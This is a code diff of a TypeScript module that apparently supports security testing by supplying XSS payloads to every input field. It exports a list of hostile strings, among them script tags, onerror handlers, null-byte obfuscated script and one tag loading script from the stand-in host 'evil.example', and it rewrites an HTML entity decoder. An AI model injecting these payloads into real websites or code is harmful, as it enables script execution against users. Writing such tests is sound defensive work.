@@ -1,5 +1,3 @@
-import { corpora } from '../formats/corpora.js';
-
 /** What one story is made of: a text that means harm, in every field that can hold it. */
 export interface Attack {
   readonly text: string;
@@ -20,7 +18,7 @@ export interface Lures {
 }
 
 /** Attacks of our own, for runs without the corpora: one of each kind. */
-const own = [
+export const ownPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
   '<img src=x onerror=alert(1)>',
@@ -53,32 +51,6 @@ const own = [
   '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>\uD800',
 ];
 
-interface Expectation {
-  readonly payload: string;
-}
-
-interface Line {
-  readonly line: string;
-}
-
-/** All texts of the corpora, none twice, after our own. */
-export async function allPayloads(): Promise<string[]> {
-  if (!corpora.isThere) return own;
-  const [dompurify, html5, trojan] = (await Promise.all(
-    ['dompurify-expect', 'h5sc-vectors', 'trojan-source-lines'].map((file) =>
-      corpora.loadJson(`xss/${file}.json`),
-    ),
-  )) as [Expectation[], string[], Line[]];
-  return [
-    ...new Set([
-      ...own,
-      ...dompurify.map(({ payload }) => payload),
-      ...html5,
-      ...trojan.map(({ line }) => line),
-    ]),
-  ];
-}
-
 /** Hosts in a payload lead to us; names of namespaces, without which it would be harmless, stay. */
 const hosts = /(?:https?:)?\/\/(?!www\.w3\.org)(?:[^\s/"'<>()\\@]*@)?[a-z\d][a-z\d.-]*(?::\d+)?/gi;
 
@@ -92,12 +64,27 @@ const armed = (text: string): string =>
 const attributes =
   /(?:href|src|srcset|action|formaction|data|from|to|values|background|poster|code|codebase|folder|url|content)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)|url\(([^)]*)\)/gi;
 
+const named: Readonly<Record<string, string>> = {
+  amp: '&',
+  colon: ':',
+  lpar: '(',
+  newline: '\n',
+  quot: '"',
+  rpar: ')',
+  sol: '/',
+  tab: '\t',
+};
+
 /** What the references in an attribute stand for. */
-function decoded(text: string): string {
-  const area = document.createElement('textarea');
-  area.innerHTML = text.replaceAll('<', '&lt;');
-  return area.value;
-}
+const decoded = (text: string): string =>
+  text.replace(
+    /&(?:#(\d{1,7})|#x([\da-f]{1,6})|(\w+));?/gi,
+    (whole, decimal?: string, hex?: string, name = '') => {
+      if (name) return named[(name as string).toLowerCase()] ?? whole;
+      const code = decimal ? Number(decimal) : parseInt(hex!, 16);
+      return code <= 0x10ffff ? String.fromCodePoint(code) : '\uFFFD';
+    },
+  );
 
 /** Addresses that a payload wants to be followed: itself, and what stands in its attributes. */
 function addressesIn(text: string): string[] {
